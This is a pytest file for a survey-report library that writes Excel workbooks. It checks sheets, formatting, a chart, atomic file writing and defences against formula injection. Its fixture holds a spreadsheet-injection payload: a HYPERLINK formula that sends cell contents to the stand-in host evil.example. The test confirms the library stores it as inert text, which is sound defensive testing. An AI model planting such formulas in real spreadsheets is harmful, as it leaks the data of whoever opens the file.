"""The report workbook: sheets, formatting, chart, formula injection, atomic writing.

The tables are small synthetic ones built here; the numbers mean nothing, only their shape does.
"""

from __future__ import annotations

import shutil
import subprocess
import zipfile
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest

from surveyindex.errors import ReportError
from surveyindex.report import ReportTables, lead_sentences, write_workbook

SHEETS = ["Summary", "Index", "Dimensions", "Profile", "USA vs CHN", "Leads", "Items", "Reliability",
          "Flags", "Weighting", "Bases", "Exclusions", "Methodology"]
INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
DIMS = ["morality", "competence", "culture", "technology", "education"]


def make_tables(countries=("BRA", "DEU", "IND", "JPN", "NGA"), targets=("USA", "CHN"),
                seed: int = 1) -> ReportTables:
    """Synthetic tables with every documented column, plus one undocumented column each."""
    rng = np.random.default_rng(seed)
    audiences = ["all", "young"]
    grid = pd.MultiIndex.from_product([countries, targets, audiences],
                                      names=["country", "target", "audience"]).to_frame(index=False)
    score = rng.uniform(30, 70, len(grid)).round(2)
    composite = grid.assign(score=score, se=1.5, ci_low=score - 2.94, ci_high=score + 3.5, n=1000,
                            rank=1, rank_low=1, rank_high=2.5, extra_column="ignored")
    dims = grid.merge(pd.DataFrame({"dimension": DIMS}), how="cross")
    dscore = rng.uniform(20, 80, len(dims))
    dimensions = dims.assign(mean=1 + dscore / 25, mean_se=0.04, score=dscore, se=1.0,
                             ci_low=dscore - 2, ci_high=dscore + 2, n=990, n_eff=700.4)
    pairs = grid[grid.target == targets[0]][["country", "audience"]].merge(
        pd.DataFrame({"measure": ["composite", *DIMS]}), how="cross")
    diff = rng.normal(0, 8, len(pairs))
    comparison = pairs.assign(target_a=targets[0], target_b=targets[1], score_a=50 + diff / 2,
                              score_b=50 - diff / 2, difference=diff, se=3.0, ci_low=diff - 5.9,
                              ci_high=diff + 5.9, p_value=np.where(np.abs(diff) > 6, 0.0004, 0.4),
                              significant=np.abs(diff) > 6)
    k = len(countries)
    leads = pd.DataFrame({"audience": "all", "measure": ["composite", *DIMS],
                          "target_a": targets[0], "target_b": targets[1], "n_countries": k,
                          "a_leads": 3, "a_leads_ci_low": 2, "a_leads_ci_high": 4.0,
                          "a_leads_significant": 1, "b_leads": k - 3, "b_leads_ci_low": 1,
                          "b_leads_ci_high": 3, "b_leads_significant": 0})
    items = dims.assign(item=dims.dimension + "_1", estimate=3.2, se=0.05, ci_low=3.1, ci_high=3.3,
                        n=980)
    reliability = grid[grid.audience == "all"].drop(columns="audience").merge(
        pd.DataFrame({"dimension": DIMS}), how="cross")
    alpha = rng.uniform(0.5, 0.9, len(reliability))
    reliability = reliability.assign(n_items=3, n=1000, alpha=alpha, alpha_std=alpha,
                                     ci_low=alpha - 0.05, ci_high=alpha + 0.05, average_r=0.4,
                                     flag=np.where(alpha < 0.6, "alpha below 0.60", ""))
    weighting = pd.DataFrame({"country": list(countries), "n": 1000, "sum_weights": 1000.0,
                              "deff_kish": 1.4, "n_eff": 714.3, "efficiency_pct": 71.4,
                              "weight_min": 0.3, "weight_max": 3.1, "weight_ratio": 10.3})
    ledger = pd.DataFrame({"item": ["rows in", "rows kept", "rows excluded",
                                    "  excluded: duplicate respondent id"], "count": [5003, 5000, 3, 3]})
    exclusions = pd.DataFrame({"row": [10, 11, 12], "line": [11, 12, 13],
                               "resp_id": [INJECTION, "@SUM(1+1)", "-2+3"],
                               "reason": ["duplicate respondent id"] * 3})
    methodology = {"Instrument": "softpower 1.0", "Data file": "responses.csv",
                   "Input SHA-256": "ab" * 32, "Weighting": "raking to age x sex margins",
                   "Replicates": "200 Rao-Wu bootstrap", "Seed": "20240101",
                   "Confidence level": "95%", "Normalisation": "linear to 0-100 " * 20,
                   "Package version": "surveyindex 0.1.0", "Date": "2024-05-01"}
    return ReportTables("How the world sees the United States and China", composite, dimensions,
                        comparison, leads, items, reliability, weighting, ledger, exclusions,
                        methodology)


@pytest.fixture
def tables() -> ReportTables:
    return make_tables()


@pytest.fixture
def book(tables, tmp_path) -> openpyxl.Workbook:
    return openpyxl.load_workbook(write_workbook(tables, tmp_path / "report.xlsx"))


def test_sheets_in_order(book):
    assert book.sheetnames == SHEETS


def test_comparison_sheet_named_from_the_data(tmp_path):
    book = openpyxl.load_workbook(write_workbook(make_tables(targets=("RUS", "IND")),
                                                 tmp_path / "r.xlsx"))
    assert book.sheetnames[4] == "RUS vs IND"
    assert book["RUS vs IND"]["H1"].value == "RUS \u2212 IND"


def test_headers_frozen_and_filtered(book):
    ws = book["Index"]
    header = [c.value for c in ws[1][:12]]
    assert header == ["Country", "Target", "Audience", "Score", "SE", "CI low", "CI high", "n",
                      "Rank", "Rank low", "Rank high", "Base"]
    assert ws["A1"].font.b
    for name in SHEETS[1:]:
        assert book[name].freeze_panes == "A2", name
    # 5 countries x 2 targets x 2 audiences = 20 rows under the header
    assert ws.auto_filter.ref == "A1:L21"
    assert "Extra column" not in header and "extra_column" not in header


def test_number_formats(book):
    assert book["Index"]["D2"].number_format == "0.0"
    assert book["Index"]["E2"].number_format == "0.00"
    assert book["Index"]["H2"].number_format == "#,##0"
    assert book["USA vs CHN"]["L2"].number_format.endswith("0.000")
    assert book["Weighting"]["B2"].number_format == "#,##0"


def test_colour_scale_on_scores(book):
    ranges = [str(r.sqref) for r in book["Index"].conditional_formatting]
    assert ranges == ["D2:D21"]
    assert [str(r.sqref) for r in book["Dimensions"].conditional_formatting] == ["G2:G101"]


def test_significant_differences_marked(book, tables):
    ws = book["USA vs CHN"]
    for r, sig in enumerate(tables.comparison["significant"], start=2):
        assert ws.cell(r, 14).value == ("*" if sig else None)
        assert ws.cell(r, 8).font.b == bool(sig)


def test_flagged_reliability_rows_highlighted(book, tables):
    ws = book["Reliability"]
    for r, flag in enumerate(tables.reliability["flag"], start=2):
        assert (ws.cell(r, 1).fill.fgColor.rgb == "00FFE699") == bool(flag)


def test_chart_with_error_bars(book):
    charts = book["Summary"]._charts
    assert len(charts) == 1 and charts[0].type == "bar"
    series = charts[0].series
    assert len(series) == 2  # one per target
    assert series[0].errBars.errValType == "cust"
    # The chart block on Index (columns N-T): countries, then per target the score and the CI's
    # distance below and above it; the fixture's CI is score - 2.94 to score + 3.5.
    ws = book["Index"]
    assert [ws.cell(1, j).value for j in range(14, 18)] == ["Chart: country", "USA",
                                                           "USA CI below", "USA CI above"]
    assert ws["P2"].value == pytest.approx(2.94) and ws["Q2"].value == pytest.approx(3.5)
    assert series[0].errBars.minus.numRef.f == "'Index'!$P$2:$P$6"
    assert series[0].errBars.plus.numRef.f == "'Index'!$Q$2:$Q$6"
    # Countries ordered by the first target's score, highest first.
    usa = [ws.cell(r, 15).value for r in range(2, 7)]
    assert usa == sorted(usa, reverse=True)


def test_summary_states_the_leads(book):
    text = [c.value for c in book["Summary"]["A"] if isinstance(c.value, str)]
    assert ("CHN rated higher than USA on education in 2 of 5 countries (95% interval 1-3); "
            "significantly in 0.") in text
    assert text[0] == "How the world sees the United States and China"
    assert "Instrument" in text


def test_lead_sentences_without_interval():
    leads = pd.DataFrame({"audience": ["all"], "measure": ["composite"], "target_a": ["USA"],
                          "target_b": ["CHN"], "n_countries": [13], "a_leads": [9]})
    assert lead_sentences(leads) == [
        "USA rated higher than CHN on the composite index in 9 of 13 countries."]


def test_error_bar_xml_in_schema_order(tables, tmp_path):
    # ECMA-376 CT_ErrBars: ... noEndCap, plus, minus, val, spPr (Excel rejects other orders).
    with zipfile.ZipFile(write_workbook(tables, tmp_path / "r.xlsx")) as z:
        xml = z.read("xl/charts/chart1.xml").decode()
    assert xml.index("<plus>") < xml.index("<minus>")


def test_formula_text_neutralised(book, tmp_path):
    ws = book["Exclusions"]
    ids = {ws.cell(r, 6).value: ws.cell(r, 6) for r in range(2, 5)}
    assert set(ids) == {INJECTION, "@SUM(1+1)", "-2+3"}  # text unchanged, no visible prefix
    for cell in ids.values():
        assert cell.data_type == "s" and cell.quotePrefix
    with zipfile.ZipFile(tmp_path / "report.xlsx") as z:
        assert not any(b"<f>" in z.read(n) for n in z.namelist() if n.startswith("xl/worksheets"))


def test_existing_file_untouched_when_writing_fails(tables, tmp_path, monkeypatch):
    target = tmp_path / "report.xlsx"
    target.write_bytes(b"the previous report")

    def half_save(self, filename):
        Path(filename).write_bytes(b"PK half a zip")
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(openpyxl.Workbook, "save", half_save)
    with pytest.raises(ReportError, match="report.xlsx.*No space left"):
        write_workbook(tables, target)
    assert target.read_bytes() == b"the previous report"
    assert [p.name for p in tmp_path.iterdir()] == ["report.xlsx"]


def test_creates_folder_and_replaces_file(tables, tmp_path):
    target = tmp_path / "a" / "b" / "report.xlsx"
    write_workbook(tables, target)
    write_workbook(tables, target)
    assert [p.name for p in target.parent.iterdir()] == ["report.xlsx"]


def test_unwritable_folder_is_a_report_error(tables, tmp_path):
    blocker = tmp_path / "file"
    blocker.write_text("")
    with pytest.raises(ReportError, match="file"):
        write_workbook(tables, blocker / "report.xlsx")


def test_wrong_table_type_named():
    with pytest.raises(ReportError, match="ReportTables.leads"):
        ReportTables("t", *[pd.DataFrame()] * 3, None, *[pd.DataFrame()] * 5, methodology={})


def test_empty_tables(tmp_path):
    empty = ReportTables("Empty", *[pd.DataFrame()] * 9, methodology={})
    book = openpyxl.load_workbook(write_workbook(empty, tmp_path / "empty.xlsx"))
    assert book.sheetnames == SHEETS
    assert book["Index"]["A1"].value == "Country" and book["Index"]["A2"].value == "no rows"
    assert book["Exclusions"]["D2"].value == "no rows excluded"
    assert not book["Summary"]._charts


def test_missing_and_odd_values(tables, tmp_path):
    odd = tables.composite.astype({"score": object}).copy()
    odd.loc[0, "score"], odd.loc[1, "se"], odd.loc[2, "country"] = pd.NA, np.inf, "bad\x07name"
    odd.loc[3, "country"] = "#N/A"  # openpyxl would store this as an error value
    t = ReportTables(tables.title, odd, *[getattr(tables, f) for f in
                     ["dimensions", "comparison", "leads", "items", "reliability", "weighting",
                      "ledger_summary", "exclusions"]], methodology=tables.methodology)
    ws = openpyxl.load_workbook(write_workbook(t, tmp_path / "odd.xlsx"))["Index"]
    assert ws["D2"].value is None and ws["E3"].value is None
    assert ws["A4"].value == "bad\ufffdname"
    assert ws["A5"].value == "#N/A" and ws["A5"].data_type == "s"


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice (soffice) not on PATH")
def test_libreoffice_opens_it(tables, tmp_path):
    path = write_workbook(tables, tmp_path / "report.xlsx")
    profile = f"-env:UserInstallation=file://{tmp_path / 'lo-profile'}"
    subprocess.run(["soffice", profile, "--headless", "--convert-to", "csv:Text - txt - csv "
                    '(StarCalc):44,34,76,1,,0,false,true,false,false,false,-1', "--outdir",
                    str(tmp_path / "csv"), str(path)], check=True, capture_output=True,
                   timeout=180)
    exclusions = (tmp_path / "csv" / "report-Exclusions.csv").read_text(encoding="utf-8")
    # LibreOffice shows the text, not the result of a formula it ran.
    assert "HYPERLINK" in exclusions and "@SUM(1+1)" in exclusions


def test_interrupted_write_leaves_no_temp_file(tables, tmp_path, monkeypatch):
    def interrupted(self, filename):
        Path(filename).write_bytes(b"PK")
        raise KeyboardInterrupt

    monkeypatch.setattr(openpyxl.Workbook, "save", interrupted)
    with pytest.raises(KeyboardInterrupt):
        write_workbook(tables, tmp_path / "report.xlsx")
    assert list(tmp_path.iterdir()) == []
